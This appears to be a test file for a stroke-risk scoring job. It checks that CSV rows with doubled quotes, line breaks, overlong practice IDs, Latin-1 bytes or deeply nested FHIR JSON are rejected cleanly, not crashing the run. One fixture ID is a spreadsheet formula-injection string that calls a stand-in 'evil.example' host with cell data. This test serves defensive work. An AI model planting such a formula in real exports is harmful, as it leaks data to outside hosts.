"""Patient CSV files read as RFC 4180 writes them, and rows whose group values cannot name
a folder rejected with a reason, never failing the whole job; a FHIR NDJSON line nested
too deeply is a rejected patient, not a dead job."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

from stroke_risk.core.patient_tables import read_table
from stroke_risk.population.job import FHIR_NDJSON, JobOptions, run
from tests.population.conftest import MODEL_TAG, population_table

pytestmark = pytest.mark.slow

FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1'
SPLIT_ID = "first line\nsecond line"
LONG_PRACTICE = "P" * 300


@pytest.fixture(scope="module")
def awkward_output(spark, stored_model, data_path: Path, tmp_path_factory) -> tuple[Path, int]:
    table = population_table(read_table(data_path), 20)
    table = table[~table["id"].isin(["bad-age", "bad-gender", "child", "bad-flag"])]
    adult = table.iloc[0]
    extra = [
        {**adult, "id": FORMULA_ID, "practice_id": "P01"},  # quotes doubled by the writer
        {**adult, "id": SPLIT_ID, "practice_id": "P02"},  # a quoted line break
        {**adult, "id": "long-practice", "practice_id": LONG_PRACTICE},
    ]
    table = pd.concat([table, pd.DataFrame(extra)], ignore_index=True)
    folder = tmp_path_factory.mktemp("awkward")
    path = folder / "patients.csv"
    table.to_csv(path, index=False)  # pandas writes RFC 4180: "" inside quotes
    latin1 = {**adult, "id": "latin-1", "practice_id": "Praxis Müller"}
    line = ",".join(str(latin1[column]) for column in table.columns) + "\n"
    with path.open("ab") as stream:
        stream.write(line.encode("latin-1"))  # one row saved in another encoding
    output = folder / "out"
    run(spark, JobOptions(str(path), str(output), MODEL_TAG, ["practice_id"]))
    return output, len(table) + 1


def _rows(output: Path) -> pd.DataFrame:
    scored = pd.read_parquet(output / "scored")
    rejected = pd.read_parquet(output / "rejected")
    return pd.concat([scored, rejected], ignore_index=True)


def test_doubled_quotes_and_quoted_line_breaks_are_read_as_rfc_4180_says(awkward_output):
    output, written = awkward_output
    rows = _rows(output)
    assert len(rows) == written  # no row split in two, none merged
    by_id = rows.set_index("id")
    assert by_id.loc[FORMULA_ID, "practice_id"] == "P01"
    assert by_id.loc[SPLIT_ID, "practice_id"] == "P02"
    assert "formerly smoked" not in set(rows["practice_id"].dropna())


def test_a_group_value_too_long_for_a_folder_is_a_rejected_row_not_a_failed_job(awkward_output):
    rejected = pd.read_parquet(awkward_output[0] / "rejected").set_index("id")
    assert "too long to name a folder" in rejected.loc["long-practice", "rejection"]


def test_a_row_that_is_not_utf_8_is_rejected_naming_the_encoding(awkward_output):
    rejected = pd.read_parquet(awkward_output[0] / "rejected").set_index("id")
    assert "not valid UTF-8" in rejected.loc["latin-1", "rejection"]
    scored = pd.read_parquet(awkward_output[0] / "scored")
    assert not scored["practice_id"].astype(str).str.contains("\ufffd").any()


def _nested(depth: int) -> list:
    extension = [{"url": "http://example.org/leaf", "valueString": "x"}]
    for _ in range(depth):
        extension = [{"url": "http://example.org/n", "extension": extension}]
    return extension


def test_a_deeply_nested_ndjson_line_rejects_its_patient_and_the_job_finishes(
    spark, stored_model, tmp_path
) -> None:
    """Before, one 7.7 KB line like this made the job exit 2 with no output at all."""
    export = tmp_path / "export"
    export.mkdir()
    patients = [
        {"resourceType": "Patient", "id": "ok", "gender": "female", "birthDate": "1950-01-01"},
        {
            "resourceType": "Patient",
            "id": "nested",
            "gender": "male",
            "birthDate": "1950-01-01",
            "extension": _nested(130),
        },
    ]
    (export / "Patient.ndjson").write_text("".join(json.dumps(p) + "\n" for p in patients))
    output = tmp_path / "out"
    run(spark, JobOptions(str(export), str(output), MODEL_TAG, input_format=FHIR_NDJSON))
    rejected = pd.read_parquet(output / "rejected").set_index("id")
    assert "nested more than" in rejected.loc["nested", "rejection"]
    assert "ok" in rejected.index  # no glucose: rejected for its own reason, still there
